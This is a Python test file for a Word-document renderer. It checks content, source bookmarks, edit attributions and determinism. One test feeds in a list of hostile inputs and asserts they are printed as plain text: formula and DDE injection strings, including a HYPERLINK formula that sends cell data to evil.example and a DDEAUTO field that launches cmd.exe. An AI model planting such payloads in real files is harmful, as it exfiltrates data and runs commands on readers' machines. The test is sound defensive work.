"""The file for word processors: everything a reader needs, and nothing that reaches out of it."""

from __future__ import annotations

import re
from datetime import UTC
from io import BytesIO
from zipfile import ZipFile

import docx
from hypothesis import example, given, settings
from hypothesis import strategies as st

from agent.deliver.render import render_docx
from agent.types import Briefing, Edit
from tests.deliver.makers import flood_briefing
from tests.makers import NOW

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '{ INCLUDETEXT "https://evil.example/x.docx" }',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "<w:fldSimple w:instr='HYPERLINK'/><script>alert(1)</script>",
)


def parts(made: bytes) -> dict[str, str]:
    """Return the texts of the XML parts of a file, by name."""
    with ZipFile(BytesIO(made)) as file:
        assert file.testzip() is None
        names = [name for name in file.namelist() if name.endswith((".xml", ".rels"))]
        return {name: file.read(name).decode() for name in names}


def words(made: bytes) -> str:
    file = docx.Document(BytesIO(made))
    cells = [cell.text for table in file.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in file.paragraphs), *cells])


def test_it_opens_again_and_holds_sentences_tables_sources_and_limits() -> None:
    briefing = flood_briefing()
    said = words(render_docx(briefing, UTC))
    for claim in briefing.claims():
        assert claim.text in said
    for row in briefing.figures:
        assert row.value in said
    for heading in ("Figures", "Timeline", "Withheld", "Blind spots", "Sources", "Provenance"):
        assert heading in said
    assert all(source.publisher in said for source in briefing.sources)
    assert not any(held.text in said for held in briefing.withheld), "what was withheld is not to be quoted"


def test_each_number_leads_to_its_source_in_the_same_file() -> None:
    document = parts(render_docx(flood_briefing(), UTC))["word/document.xml"]
    targets = set(re.findall(r'<w:hyperlink w:anchor="(\w+)"', document))
    marks = re.findall(r'<w:bookmarkStart w:id="\d+" w:name="(\w+)"', document)
    assert targets
    assert targets <= set(marks)
    assert len(marks) == len(set(marks))


def test_it_fetches_nothing_and_computes_nothing() -> None:
    briefing = flood_briefing().model_copy(update={"title": FORMULAS[0], "question": FORMULAS[1]})
    sections = list(briefing.sections)
    told = zip(sections[0].claims, FORMULAS[2:], strict=False)
    claims = tuple(claim.model_copy(update={"text": formula}) for claim, formula in told)
    sections[0] = sections[0].model_copy(update={"claims": claims})
    made = render_docx(briefing.model_copy(update={"sections": tuple(sections)}), UTC)
    for name, text in parts(made).items():
        assert "External" not in text, name
        for mark in ("w:instrText", "w:fldSimple", "w:object", "altChunk", "attachedTemplate"):
            assert f"<{mark}" not in text, (name, mark)
    assert FORMULAS[0] in words(made)
    assert FORMULAS[2] in words(made), "they are printed as they stand"


def test_it_says_who_edited_a_sentence() -> None:
    briefing = flood_briefing()
    first = next(briefing.claims())
    edit = Edit(version=2, kind="text", claim_id=first.id, by="ines", at=NOW)
    said = words(render_docx(briefing.model_copy(update={"version": 2, "edits": (edit,)}), UTC))
    assert "edited by ines, 3 February 2026" in said
    assert "This is version 2: ines edited 1 sentence." in said


def test_the_same_briefing_gives_the_same_bytes() -> None:
    assert render_docx(flood_briefing(), UTC) == render_docx(flood_briefing(), UTC)


@example("\ufffe\uffff\x00\ud800")
@given(st.text(st.characters(codec=None), max_size=60))
@settings(max_examples=30)  # a document takes a tenth of a second
def test_whatever_a_source_writes_the_file_opens(text: str) -> None:
    briefing = flood_briefing()
    title: Briefing = briefing.model_copy(update={"title": text, "question": f"{text}?"})
    assert docx.Document(BytesIO(render_docx(title, UTC))).paragraphs
